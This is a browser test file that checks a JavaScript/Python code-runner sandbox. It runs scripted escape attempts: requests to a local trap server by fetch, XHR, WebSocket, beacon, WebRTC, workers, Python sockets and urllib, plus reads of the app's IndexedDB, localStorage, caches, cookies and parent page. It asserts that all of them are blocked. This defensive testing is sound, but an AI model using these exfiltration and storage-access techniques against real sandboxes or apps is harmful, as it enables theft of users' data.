import { afterAll, beforeAll, expect, it } from 'vitest';
import { inBrowser } from '../browser.ts';
import { javascript, openRunnerPage, python, setTrap, stdoutOf, type RunnerPage, type Trap } from './page.ts';

const SECRET = 'private-words-of-the-learner';

/** Every way out that a worker has, and some that it has not; each line says how it went. */
const ways = (port: number): string => `
const there = 'http://127.0.0.1:${port}/leak';
const trust = trustedTypes.createPolicy('runner', { createScriptURL: (url) => url, createScript: (text) => text });
const settled = (thing, good) => new Promise((done, failed) => { thing[good] = done; thing.onerror = () => failed(new Error('error')); setTimeout(() => failed(new Error('silence')), 1500); });
const nested = 'fetch("' + there + '?nested"); new WebSocket("ws://127.0.0.1:${port}/nested"); importScripts("' + there + '?nested.js");';
const ways = {
  fetch: () => fetch(there),
  'fetch, no-cors': () => fetch(there, { mode: 'no-cors', keepalive: true }),
  'fetch of the app': () => fetch('\${origin}'),
  'the first fetch of another realm': () => globalThis.constructor.prototype.fetch.call(globalThis, there),
  xhr: async () => { const x = new XMLHttpRequest(); x.open('GET', there); x.send(); await settled(x, 'onload'); },
  'xhr, sync': () => { const x = new XMLHttpRequest(); x.open('GET', there, false); x.send(); },
  websocket: () => settled(new WebSocket('ws://127.0.0.1:${port}/'), 'onopen'),
  eventsource: () => settled(new EventSource(there), 'onopen'),
  import: () => import(there),
  'import of data': () => import('data:text/javascript,export default 1'),
  importScripts: () => importScripts(trust.createScriptURL(there)),
  beacon: () => { if (!navigator.sendBeacon(there, 'x')) throw new Error('refused'); },
  webrtc: () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); },
  webtransport: () => new WebTransport('https://127.0.0.1:${port}/').ready,
  font: () => new FontFace('x', 'url(' + there + ')').load(),
  eval: () => (0, eval)(trust.createScript('1')),
  Function: () => new Function(trust.createScript('return 1'))(),
  'a worker from there': () => settled(new Worker(trust.createScriptURL(there)), 'onmessage'),
  'a worker in the worker': () => settled(new Worker(trust.createScriptURL(URL.createObjectURL(new Blob([nested])))), 'onmessage'),
};
for (const [name, go] of Object.entries(ways)) {
  try { await go(); console.log(name + ': OPEN'); } catch (e) { console.log(name + ': closed'); }
}`;

/** What the app keeps, and the ways to it. */
const STORES = `
const ask = (request) => new Promise((done, failed) => { request.onsuccess = () => done(request.result); request.onerror = () => failed(request.error); });
const stores = {
  indexedDB: async () => (await ask(indexedDB.open('secrets'))).name,
  'indexedDB.databases': async () => (await indexedDB.databases()).map((d) => d.name).join(),
  'indexedDB.deleteDatabase': () => ask(indexedDB.deleteDatabase('secrets')),
  caches: () => caches.keys(),
  localStorage: () => localStorage.getItem('secret'),
  cookies: () => cookieStore.getAll(),
  opfs: () => navigator.storage.getDirectory(),
  buckets: () => navigator.storageBuckets.open('secrets'),
  locks: () => navigator.locks.query(),
  'the parent page': () => parent.document.title,
};
for (const [name, go] of Object.entries(stores)) {
  try { console.log(name + ': OPEN ' + JSON.stringify(await go())); } catch (e) { console.log(name + ': closed'); }
}
new BroadcastChannel('app').postMessage('${SECRET}');`;

/** The same ways from Python, whose \`js\` module is the worker's global object. */
const PYTHON_WAYS = (port: number): string => `
import js, asyncio, socket, urllib.request
there = "http://127.0.0.1:${port}/leak"
def xhr():
    x = js.XMLHttpRequest.new(); x.open("GET", there, False); x.send()
async def fetch(): await js.fetch(there)
async def run_js(): await __import__("pyodide").code.run_js("import('" + there + "')")
async def load(): await __import__("pyodide_js").loadPackage(there + ".whl")
async def pyfetch(): await __import__("pyodide.http").http.pyfetch(there)
ways = {
    "fetch": fetch, "xhr": xhr, "run_js": run_js, "loadPackage": load, "pyfetch": pyfetch,
    "socket": lambda: socket.create_connection(("127.0.0.1", ${port}), 1),
    "urllib": lambda: urllib.request.urlopen(there, timeout=1),
    "indexedDB": lambda: js.indexedDB.open("secrets"),
    "caches": lambda: js.caches.keys().then(print),
    "postMessage": lambda: js.postMessage("forged"),
}
async def main():
    for name, go in ways.items():
        try:
            result = go()
            if asyncio.iscoroutine(result): await asyncio.wait_for(result, 1)
            print(name + ": OPEN")
        except BaseException as e:
            print(name + ": closed")
asyncio.run(main())`;

inBrowser('the sandbox has no way out', () => {
  let runner: RunnerPage;
  let trap: Trap;
  beforeAll(async () => {
    trap = await setTrap();
    runner = await openRunnerPage();
    await runner.page.evaluate(async (secret) => {
      localStorage.setItem('secret', secret);
      await (await caches.open('secrets')).put('/secret', new Response(secret));
      const folder = await navigator.storage.getDirectory();
      await folder.getFileHandle(secret, { create: true });
      await new Promise((resolve) => {
        const request = indexedDB.open('secrets', 1);
        request.onupgradeneeded = () => request.result.createObjectStore('words').put(secret, 1);
        request.onsuccess = resolve;
      });
    }, SECRET);
  });
  afterAll(async () => {
    await runner.close();
    await trap.close();
  });

  const nothingGotOut = async (): Promise<void> => {
    await runner.page.waitForTimeout(500);
    expect(trap.visits).toEqual([]);
    expect(runner.requests).toEqual([]);
  };

  it('lets no request of JavaScript out', async () => {
    const code = ways(trap.port).replace('${origin}', `${new URL(runner.page.url()).origin}/leak`);
    const result = await runner.run(javascript(code, { limits: { wallMs: 10_000 } }));
    expect(stdoutOf(result)).not.toContain('OPEN');
    expect(stdoutOf(result).match(/: closed/g)).toHaveLength(19);
    await nothingGotOut();
  });

  it('lets no request of Python out', async () => {
    const result = await runner.run(python(PYTHON_WAYS(trap.port), { limits: { wallMs: 10_000 } }));
    // Two give no error: a socket that never connects, and a loader that only says so.
    expect(stdoutOf(result).replace(/(socket|loadPackage): OPEN/g, '')).not.toContain('OPEN');
    expect(stdoutOf(result).match(/: (OPEN|closed)/g)).toHaveLength(10);
    await nothingGotOut();
  });

  it('keeps the app’s storage out of reach', async () => {
    const result = await runner.run(javascript(STORES, { limits: { wallMs: 10_000 } }));
    expect(stdoutOf(result)).not.toContain('OPEN');
    expect(stdoutOf(result).match(/: closed/g)).toHaveLength(10);
    expect(JSON.stringify(result)).not.toContain(SECRET);
    expect(await runner.page.evaluate(() => window.heard)).toEqual([]);
    expect(await runner.page.evaluate(async () => [localStorage.getItem('secret'), await caches.keys(), (await indexedDB.databases()).length])).toEqual([SECRET, ['secrets'], 1]);
  });
});
